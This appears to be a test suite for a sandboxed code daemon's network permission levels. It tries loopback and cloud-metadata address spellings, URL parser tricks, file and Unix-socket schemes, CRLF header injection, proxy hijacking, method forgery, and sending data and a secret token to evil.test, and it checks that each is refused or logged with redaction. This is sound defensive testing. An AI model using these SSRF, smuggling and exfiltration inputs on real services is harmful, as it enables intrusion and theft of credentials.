import { readFileSync } from 'node:fs';
import anyTest, { type TestFn } from 'ava';
import { bodyOf, closedPort, startHttpServer } from '../daemon/network/_loopback-servers.ts';
import { AdministeredDaemon } from '../e2e/_administered.ts';
import { DaemonProcess } from '../harness/daemon-process.ts';
import { PolicyFolder } from '../harness/policy-folder.ts';
import { bomb, echoing, endless, hello, raw, redirecting, slow } from './_local-servers.ts';
import { addNetworkLevels, attempt, fetching, HIGHEST, TOKEN } from './_network-levels.ts';

const test = anyTest as TestFn;
const file = new AdministeredDaemon(test, addNetworkLevels, ['--client-ceiling', HIGHEST]);

const words = (text: string): string[] => text.trim().split(/\s+/);

test('the levels below have no network at all, and the ones above no more than is listed', async (t) => {
  const server = await hello(t);
  for (const level of ['sandbox', 'restricted']) {
    const session = await file.session({ level });
    const { message } = await attempt(session, '[typeof fetch, typeof websocket, typeof dns, typeof WebSocket]');
    t.is(message, 'undefined,undefined,undefined,undefined');
  }
  for (const level of ['standard', 'trusted']) {
    const session = await file.session({ level });
    t.is((await fetching(session, `http://localhost:${server.port}/`)).code, 'CAPABILITY_DENIED');
  }
  t.is(server.connections(), 0);
  const listed = await file.session({ level: 'listed' });
  t.like(await fetching(listed, `http://localhost:${server.port}/`), { code: '200', message: 'hello' });
});

const SPELLINGS = words(`
  127.0.0.1 localhost LOCALHOST localhost. 127.0.0.1. 0.0.0.0 0 [::] [::1] [0:0:0:0:0:0:0:1]
  [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [64:ff9b::127.0.0.1] [2002:7f00:1::] 127.1 127.0.1
  127.255.255.254 2130706433 0x7f000001 0x7f.1 0177.0.0.1 017700000001 %31%32%37.0.0.1 ①②⑦.⓪.⓪.①
  127。0。0。1 ⓛⓞⓒⓐⓛⓗⓞⓢⓣ
`);

test('H01: this machine is refused in every spelling, where every host is listed and no private address', async (t) => {
  const server = await hello(t);
  const session = await file.session({ level: 'anywhere' });
  for (const host of SPELLINGS) {
    const url = `//${host}:${server.port}/`;
    t.is((await fetching(session, `http:${url}`)).code, 'CAPABILITY_DENIED', host);
    t.is((await attempt(session, `websocket(${JSON.stringify(`ws:${url}`)})`)).code, 'CAPABILITY_DENIED', host);
  }
  const named = await attempt(session, 'dns("localhost")');
  t.not(named.code, 'done', 'the name is no way to learn a private address');
  t.is(server.connections(), 0);
});

test('H04: metadata services are refused by address, and no name of theirs answers', async (t) => {
  const [anywhere, listed] = [await file.session({ level: 'anywhere' }), await file.session({ level: 'listed' })];
  const addresses = ['169.254.169.254', '2852039166', '[::ffff:169.254.169.254]', '[fd00:ec2::254]', '169.254.170.2'];
  for (const host of [...addresses, '100.100.100.200', '168.63.129.16', '192.0.0.192']) {
    t.is((await fetching(anywhere, `http://${host}/latest/meta-data/`)).code, 'CAPABILITY_DENIED', host);
  }
  for (const host of ['metadata.google.internal', 'metadata', 'instance-data']) {
    const url = `http://${host}/computeMetadata/v1/`;
    t.regex((await fetching(anywhere, url)).code, /^(?:CAPABILITY_DENIED|EFFECT_FAILED)$/, host);
    t.is((await fetching(listed, url)).code, 'CAPABILITY_DENIED', host);
  }
});

test('H06: the host that is compared is the host that is reached, however a URL is spelled', async (t) => {
  const server = await hello(t);
  const session = await file.session({ level: 'listed' });
  const at = `127.0.0.1:${server.port}`;
  for (const url of [
    `http://localhost@${at}/`,
    `http://localhost:80@${at}/`,
    `http://${at}#localhost`,
    `http://${at}/#@localhost:${server.port}/`,
    `http://${at}?localhost`,
    `http://${at}\\@localhost:${server.port}/`,
    `http:///${at}/`,
    `http:${at}`,
    `ht\ttp://${at}/`,
    `http://127.0\n.0.1:${server.port}/`,
    ` http://${at}/ `,
    `http://user:pass@localhost:${server.port}/`,
    `http://user@localhost:${server.port}/`,
    'http://example.com:8080/',
    'http://example.com:22/',
  ]) {
    t.regex((await fetching(session, url)).code, /^(?:CAPABILITY_DENIED|TypeError)$/, JSON.stringify(url));
  }
  // What names one URL when it is checked and another when it is used.
  const turns = `(() => { let n = 0; const u = () => n++ === 0 ? "http://localhost:${server.port}/" : "http://${at}/"; return { toString: u, valueOf: u, get href() { return u(); }, get url() { return u(); } }; })()`;
  t.is((await attempt(session, `fetch(${turns})`)).code, '200');
  t.deepEqual(
    server.requests.map(({ headers }) => headers.host),
    [`localhost:${server.port}`],
  );
});

test('H06: a path rule is compared with the path that is sent', async (t) => {
  const server = await hello(t);
  const session = await file.session({ level: 'narrow' });
  const origin = `http://localhost:${server.port}`;
  for (const path of words(
    '/private /public /public/../private /public/%2e%2e/private /PUBLIC/x /?/public/ /./public',
  )) {
    t.is((await fetching(session, origin + path)).code, 'CAPABILITY_DENIED', path);
  }
  t.is((await fetching(session, `${origin}/public/x`)).code, '200');
  t.deepEqual(
    server.requests.map(({ url }) => url),
    ['/public/x'],
  );
});

test('H07: no scheme but http and https is fetched, and none but ws and wss opened as a socket', async (t) => {
  const server = await hello(t);
  const session = await file.session({ level: 'anywhere' });
  const others = words(`
    file:///etc/passwd file://localhost/etc/passwd gopher://example.com:70/_x ftp://example.com/ data:text/plain,x
    blob:http://example.com/x unix:${file.daemon.adminSocket} ws+unix://${file.daemon.adminSocket}:/
    http+unix://${encodeURIComponent(file.daemon.adminSocket)}/ ws://localhost:${server.port}/ wss://example.com/
    node:fs javascript:1 about:blank
  `);
  for (const url of others) {
    t.regex((await fetching(session, url)).code, /^(?:CAPABILITY_DENIED|TypeError)$/, url);
    if (!/^wss?:/.test(url)) {
      t.is((await attempt(session, `websocket(${JSON.stringify(url)})`)).code, 'CAPABILITY_DENIED', url);
    }
  }
  t.is((await attempt(session, `websocket("http://localhost:${server.port}/")`)).code, 'CAPABILITY_DENIED');
  t.is(server.connections(), 0);
});

const FORBIDDEN = words(`
  Host Connection Keep-Alive Transfer-Encoding Content-Length Upgrade Cookie Proxy-Authorization Proxy-Connection
  X-Forwarded-For X-Forwarded-Host Forwarded Via Expect TE X-Original-URL Sec-WebSocket-Key
`);

test('H08: headers that frame, route or forge a request are refused, and no value ends its line', async (t) => {
  const server = await hello(t);
  const session = await file.session({ level: 'listed' });
  const url = `http://localhost:${server.port}/`;
  const headers = [
    ...FORBIDDEN.map((name) => [name, 'x']),
    ['x-a', 'b\r\nHost: evil'],
    ['x-a', 'b\nHost: evil'],
    ['x-a', 'b\0'],
    ['x-a', '嘊嘍Host: evil'],
    ['x-a\r\nHost', 'evil'],
    ['Host ', 'evil'],
    ['', 'x'],
  ];
  for (const pair of headers) {
    for (const shape of [`[${JSON.stringify(pair)}]`, `Object.fromEntries([${JSON.stringify(pair)}])`]) {
      const { code } = await fetching(session, url, `{ headers: ${shape} }`);
      t.regex(code, /^(?:CAPABILITY_DENIED|INVALID_PARAMS|TypeError)$/, JSON.stringify(pair));
    }
  }
  t.is(server.connections(), 0);
});

const LOOKALIKES = words(`
  evilexample.com example.com.evil.test www.example.com example.co example.org evilexample.org a.example.org.evil.test
  localhost.evil.test evil.localhost xn--lcalhost-e1a lоcalhost
`);

test('H09: a rule is compared label by label', async (t) => {
  const session = await file.session({ level: 'listed' });
  for (const host of LOOKALIKES) {
    t.is((await fetching(session, `http://${host}/`)).code, 'CAPABILITY_DENIED', host);
  }
  for (const name of ['example.org', 'evilexample.org', 'a.example.org.evil.test', 'localhost.evil.test']) {
    t.is((await attempt(session, `dns("${name}")`)).code, 'CAPABILITY_DENIED', name);
  }
});

test('H10: no option of a request leads it to a Unix socket or a proxy', async (t) => {
  const [server, proxy] = [await hello(t), await hello(t)];
  const session = await file.session({ level: 'listed' });
  const path = JSON.stringify(file.daemon.adminSocket);
  const elsewhere = `http://localhost:${proxy.port}`;
  for (const init of [
    `{ socketPath: ${path}, unix: ${path}, path: ${path} }`,
    `{ dispatcher: { dispatch() { throw 0; } }, agent: { socketPath: ${path} }, client: {} }`,
    `{ proxy: "${elsewhere}", host: "localhost", port: ${proxy.port}, lookup() { return "127.0.0.1"; } }`,
  ]) {
    const { code } = await fetching(session, `http://localhost:${server.port}/`, init);
    t.regex(code, /^(?:200|TypeError|INVALID_PARAMS)$/, init);
  }
  t.is(proxy.connections(), 0);
});

test.serial('H10: a daemon whose environment names a proxy goes to no proxy', async (t) => {
  const [server, proxy] = [await hello(t), await hello(t)];
  const policy = new PolicyFolder();
  t.teardown(() => policy.remove());
  addNetworkLevels(policy);
  const names = ['HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY', 'https_proxy', 'ALL_PROXY', 'all_proxy'];
  // The daemon inherits what stands here when it starts.
  for (const name of names) process.env[name] = `http://127.0.0.1:${proxy.port}`;
  process.env['NODE_USE_ENV_PROXY'] = '1';
  const starting = DaemonProcess.start(t, { args: ['--client-ceiling', HIGHEST, '--policies', policy.path] });
  for (const name of [...names, 'NODE_USE_ENV_PROXY']) delete process.env[name];
  const daemon = await starting;
  t.regex(readFileSync(`/proc/${daemon.child.pid}/environ`, 'utf8'), /(?:^|\0)HTTP_PROXY=/);
  const client = await daemon.connect();
  t.teardown(() => client.close());
  const session = await file.session({ level: 'listed' }, client);
  t.like(await fetching(session, `http://localhost:${server.port}/`), { code: '200', message: 'hello' });
  await fetching(session, `https://localhost:${server.port}/`);
  await attempt(session, `websocket("ws://localhost:${server.port}/")`);
  t.true(server.connections() >= 3);
  t.is(proxy.connections(), 0);
});

test('H11: an endless body, and one that grows when it is decoded, end at the size that the level allows', async (t) => {
  const session = await file.session({ level: 'small' });
  for (const { port } of [await endless(t), await bomb(t, 50_000_000)]) {
    const { code, message } = await fetching(session, `http://localhost:${port}/`);
    t.is(code, 'TOO_LARGE');
    t.regex(message, /100000 bytes/);
  }
  t.deepEqual(await session.value('1 + 1'), { kind: 'json', json: 2 });
});

test('H11: a body that drips, a head that drips and a server that says nothing end at the time that the level allows', async (t) => {
  const session = await file.session({ level: 'brief' });
  for (const { port } of await slow(t)) {
    t.like(await fetching(session, `http://localhost:${port}/`), { code: 'EFFECT_FAILED', reason: 'timed-out' });
  }
  t.deepEqual(await session.value('1 + 1'), { kind: 'json', json: 2 });
});

test('H11: a hundred thousand headers, a head without an end and a redirect in a circle are refused', async (t) => {
  const many = `HTTP/1.1 200 OK\r\n${'x: y\r\n'.repeat(100_000)}\r\n`;
  const long = `HTTP/1.1 200 OK\r\nx: ${'y'.repeat(4_000_000)}`;
  const session = await file.session({ level: 'small' });
  for (const text of [many, long]) {
    const server = await raw(t, text);
    t.regex((await fetching(session, `http://localhost:${server.port}/`)).code, /^(?:EFFECT_FAILED|TOO_LARGE)$/);
  }
  const circle = await redirecting(t, () => '/');
  const { reason } = await fetching(session, `http://localhost:${circle.port}/`);
  t.is(reason, 'too-many-redirects');
});

test('H12: what is not allowed is refused in the same words whether something listens there or not', async (t) => {
  const server = await hello(t);
  const closed = await closedPort(t);
  for (const [level, host] of [
    ['anywhere', 'localhost'],
    ['anywhere', '127.0.0.1'],
    ['narrow', 'localhost'],
  ] as const) {
    const session = await file.session({ level });
    const said = async (port: number): Promise<string> => {
      const { code, reason, message } = await fetching(session, `http://${host}:${port}/`);
      return `${code} ${reason} ${message.replace(String(port), 'PORT')}`;
    };
    const refusal = await said(server.port);
    t.regex(refusal, /^CAPABILITY_DENIED /);
    t.is(await said(closed), refusal);
  }
  t.is(server.connections(), 0);
});

test('H12: a closed port and a server that speaks no HTTP say no more of the system than that', async (t) => {
  const session = await file.session({ level: 'listed' });
  const other = await raw(t, 'nonsense\r\n\r\n');
  for (const port of [await closedPort(t), other.port]) {
    const { code, message } = await fetching(session, `http://localhost:${port}/`);
    t.is(code, 'EFFECT_FAILED');
    t.notRegex(message, /ECONN|errno|syscall|127\.0\.0\.1|::1|undici|node:/);
  }
});

test('H13: what leaves in a URL or in a name stands in the log, allowed or denied, and a secret in it by its name alone', async (t) => {
  const server = await hello(t);
  const session = await file.session({ level: 'listed' });
  const decision = (url: string) =>
    file.record(
      'capability.decision',
      ({ sessionId, args }) => sessionId === session.sessionId && JSON.stringify(args).includes(url),
    );
  const url = `http://localhost:${server.port}/path?data=exfiltrated`;
  await fetching(session, url);
  t.is((await decision(url)).fields['verdict'], 'allow');
  await fetching(session, 'http://evil.test/?data=exfiltrated');
  t.is((await decision('http://evil.test/?data=exfiltrated')).fields['verdict'], 'deny');
  await attempt(session, 'dns("exfiltrated.evil.test")');
  t.is((await decision('exfiltrated.evil.test')).fields['verdict'], 'deny');
  await attempt(session, `secret("token").then((s) => fetch("http://localhost:${server.port}/?s=" + s))`);
  const { fields } = await decision('?s=');
  t.false(JSON.stringify(fields).includes(TOKEN));
  t.regex(JSON.stringify(fields), /redacted/);
});

test('H14: no connection is used twice, by two sessions or by one', async (t) => {
  const server = await hello(t);
  const sessions = [await file.session({ level: 'listed' }), await file.session({ level: 'reading' })];
  for (const session of [...sessions, ...sessions]) {
    t.is((await fetching(session, `http://localhost:${server.port}/`, '{ keepalive: true }')).code, '200');
  }
  t.is(server.connections(), 4);
});

test('H15: a request is not upgraded, by its headers or by its answer', async (t) => {
  const server = await hello(t);
  const session = await file.session({ level: 'listed' });
  const url = `http://localhost:${server.port}/`;
  const headers = '{ Connection: "Upgrade", Upgrade: "websocket", "Sec-WebSocket-Version": "13" }';
  for (const init of [`{ headers: ${headers} }`, '{ method: "CONNECT" }', '{ method: "TRACE" }']) {
    t.regex((await fetching(session, url, init)).code, /^(?:CAPABILITY_DENIED|TypeError)$/, init);
  }
  t.is(server.connections(), 0);
  await fetching(session, url, '{ mode: "websocket" }');
  t.like(server.requests[0]?.headers, { upgrade: undefined, connection: 'close' });
  const answer = 'HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\nraw bytes';
  const switching = await raw(t, answer);
  t.like(await fetching(session, `http://localhost:${switching.port}/`), { code: 'EFFECT_FAILED', reason: 'protocol' });
  t.is((await attempt(session, '[typeof WebSocket, typeof EventSource]')).message, 'undefined,undefined');
});

test('a redirect is checked as a first request is, and what it may not reach stays untouched', async (t) => {
  const target = await hello(t);
  let location = '';
  const server = await redirecting(t, () => location);
  const session = await file.session({ level: 'listed' });
  const places = words(`
    http://127.0.0.1:${target.port}/ //127.1:${target.port}/ http://[::1]:${target.port}/
    http://user:pass@localhost:${target.port}/ ws://localhost:${target.port}/ http://169.254.169.254/latest/
    file:///etc/passwd data:text/plain,x unix:${file.daemon.adminSocket}
  `);
  for (location of places) {
    t.is((await fetching(session, `http://localhost:${server.port}/`)).code, 'CAPABILITY_DENIED', location);
  }
  t.is(target.connections(), 0);
  location = `http://localhost:${target.port}/`;
  t.like(await fetching(session, `http://localhost:${server.port}/`), { code: '200', message: 'hello' });
});

test('a credential reaches the server, stands in no header that code can read, and no echo of it is printed', async (t) => {
  const echo = await echoing(t);
  const session = await file.session({ level: 'trusting' });
  const url = `http://localhost:${echo.port}/`;
  const result = await session.run(
    `const request = new Request("${url}"), response = await fetch(request), body = await response.text(); print(body, [...response.headers], [...request.headers]); display(body); console.log({ body }); [body, [...response.headers], [...request.headers]]`,
  );
  t.is(result.status, 'ok');
  t.is(echo.requests[0]?.headers.authorization, `Bearer ${TOKEN}`);
  const said = JSON.stringify([result, session.events()]);
  t.false(said.includes(TOKEN), said);
  t.true(said.includes('[redacted:token]'));
  // Inside the isolate: the headers of request and answer do not hold it.
  const inside = `[...response.headers, ...request.headers].some((pair) => pair.some((text) => text.includes(${JSON.stringify(TOKEN.slice(0, 8))} + ${JSON.stringify(TOKEN.slice(8))})))`;
  t.deepEqual(await session.value(inside), { kind: 'json', json: false });
});

test('a credential is not replaced by the code’s own, and goes along with no redirect to another origin', async (t) => {
  const target = await hello(t);
  const server = await redirecting(t, () => `http://localhost:${target.port}/`);
  const session = await file.session({ level: 'trusting' });
  const init = '{ headers: { authorization: "mine" } }';
  t.is((await fetching(session, `http://localhost:${server.port}/`, init)).code, '200');
  t.is(server.requests[0]?.headers.authorization, `Bearer ${TOKEN}`);
  t.is(target.requests[0]?.headers.authorization, undefined);
});

test('F09: where only reading is granted, no spelling of a request writes', async (t) => {
  const received: string[] = [];
  const server = await startHttpServer(t, async (request, response) => {
    received.push(`${request.method} ${await bodyOf(request)}`);
    response.end();
  });
  const session = await file.session({ level: 'reading' });
  const url = JSON.stringify(`http://localhost:${server.port}/`);
  for (const attack of [
    `fetch(${url}, { method: "POST", body: "x" })`,
    `fetch(${url}, { method: "post" })`,
    `fetch(${url}, { method: "DELETE" })`,
    `fetch(${url}, { method: "GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nDELETE" })`,
    `fetch(${url}, { method: ["PUT"] })`,
    `fetch(${url}, { method: { toString: () => "PUT" } })`,
    `fetch(${url}, { body: "x" })`,
    `fetch(${url}, Object.create({ method: "PUT" }))`,
    `fetch(new Request(${url}, { method: "PUT", body: "x" }))`,
    `fetch(new Request(${url}), { method: "PATCH" })`,
    `fetch(Object.defineProperty(new Request(${url}, { method: "PUT" }), "method", { value: "GET" }))`,
    `fetch(${url}, { headers: { "X-HTTP-Method-Override": "DELETE" } })`,
    `fetch(${url}, { headers: new Headers([["x-method-override", "DELETE"]]) })`,
    `fetch(${url}, { headers: { "Transfer-Encoding": "chunked" } })`,
  ]) {
    t.regex((await attempt(session, attack)).code, /^(?:CAPABILITY_DENIED|INVALID_PARAMS|TypeError)$/, attack);
  }
  t.is(server.connections(), 0);
  // A getter that answers something else each time is read once, and what was read is what is checked.
  await attempt(
    session,
    `fetch(${url}, (() => { let n = 0; return { get method() { return n++ === 0 ? "GET" : "PUT"; } }; })())`,
  );
  await attempt(session, `fetch(${url}, new Proxy({}, { get: (_, key) => (key === "method" ? "HEAD" : undefined) }))`);
  t.deepEqual(received, ['GET ', 'HEAD ']);
});
